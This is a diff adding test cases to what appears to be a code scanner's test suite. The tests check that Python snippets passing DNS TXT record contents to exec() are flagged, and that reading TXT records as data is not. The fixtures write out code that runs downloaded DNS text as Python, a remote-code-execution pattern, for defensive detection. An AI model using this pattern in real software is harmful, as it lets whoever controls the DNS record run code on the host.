@@ -52,3 +52,40 @@ expectVerdicts(
   run,
   'pass',
 );
+
+/**
+ * Text from a DNS TXT record handed to exec: dnspython answers are downloaded data (red-team
+ * round 7), but py-exec-remote-code needs an HTTP client call in the file, so it got review
+ * (py-exec-dynamic). py-exec-downloaded-text follows the data itself, and the pieces of downloaded
+ * text joined again (`''.join(r.to_text() for r in answer)`) are downloaded text.
+ */
+const dns = (_n: string, body: string) =>
+  scanRunFile('cfg-sync', 'run.py', 'import dns.resolver\n' + body);
+
+expectVerdicts(
+  'a DNS TXT record run as Python fails',
+  [
+    [
+      'joined-records',
+      "answer = dns.resolver.resolve('cfg.example.net', 'TXT')\nexec(''.join(r.to_text().strip('\"') for r in answer))\n",
+    ],
+    [
+      'loop-record',
+      "for record in dns.resolver.resolve('cfg.example.net', 'TXT'):\n    exec(record.strings[0].decode())\n",
+    ],
+  ] as const,
+  dns,
+  'fail',
+);
+
+expectVerdicts(
+  'a TXT record read as data passes',
+  [
+    [
+      'verification-token',
+      "answer = dns.resolver.resolve('example.com', 'TXT')\ntokens = ''.join(r.to_text() for r in answer)\nprint('site-verification' in tokens)\n",
+    ],
+  ] as const,
+  dns,
+  'pass',
+);
